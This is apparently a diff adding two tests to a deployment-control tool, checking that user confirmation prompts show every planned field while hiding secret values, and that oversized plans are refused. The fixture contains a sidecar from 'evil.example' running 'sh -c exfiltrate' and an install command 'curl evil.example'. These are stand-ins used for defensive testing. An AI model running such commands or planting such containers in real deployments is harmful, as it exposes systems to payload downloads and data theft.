@@ -184,6 +184,51 @@ test('a plan is carried out once, however many calls ask for it at the same time
   await mcp.close();
 });
 
+test('a question shows all that is agreed to, whatever the values of secrets are', async () => {
+  const { asked, answer } = user({ confirm: true }, 'decline');
+  const env = { ...service.env, WORDS: 'x=create; y=registry.example; z=change', SHORT: 'agent', WHOLE: 'source' };
+  const mcp = await connect(WRITES, { env, answer });
+  const secrets = ['WORDS', 'SHORT', 'WHOLE'].map((name) => ({ name, env: name }));
+  const container = {
+    name: 'proxy',
+    image: 'evil.example/proxy:1',
+    command: ['sh', '-c', 'exfiltrate'],
+    env: [{ name: 'KEY', value: 'not-to-be-shown' }],
+  };
+  const source_config = { resource_spec: { sidecars: [container] }, install_command: 'curl evil.example' };
+  const { given } = await planned(mcp, fleet([form('shown', { secrets, source_config })]));
+  await mcp.call('apply', given);
+  const [{ message }] = asked;
+  for (const line of [
+    '+ shown: create',
+    'source_revision_config.image_uri: registry.example/agent:1',
+    'source_config.resource_spec.sidecars.0.image: evil.example/proxy:1',
+    'source_config.resource_spec.sidecars.0.command.2: exfiltrate',
+    'source_config.resource_spec.sidecars.0.env: KEY',
+    'source_config.install_command: curl evil.example',
+    'secrets: WORDS, SHORT, WHOLE',
+  ])
+    assert.ok(message.includes(line), `${line} in ${message}`);
+  assert.doesNotMatch(message, /\*\*\*|not-to-be-shown/);
+  await mcp.close();
+});
+
+test('nobody is asked about more than a question shows', async () => {
+  const { asked, answer } = user({ confirm: true });
+  const mcp = await connect(WRITES, { env: service.env, answer });
+  for (const forms of [
+    Array.from({ length: 40 }, (_, at) => form(`many-${at}`)),
+    [form('long', { source_config: { install_command: `true ${'x'.repeat(400)}` } })],
+  ]) {
+    const { given } = await planned(mcp, fleet(forms));
+    const { failure } = await mcp.call('apply', given);
+    assert.equal(failure.code, 'too_long');
+    assert.match(failure.next, /by hand: deployment-control apply FILE/);
+  }
+  assert.equal(asked.length, 0);
+  await mcp.close();
+});
+
 test('what changes while the user thinks is refused too', async () => {
   await service.run(['deploy', '-'], { input: form('thinking', image(1)) });
   await service.advance();
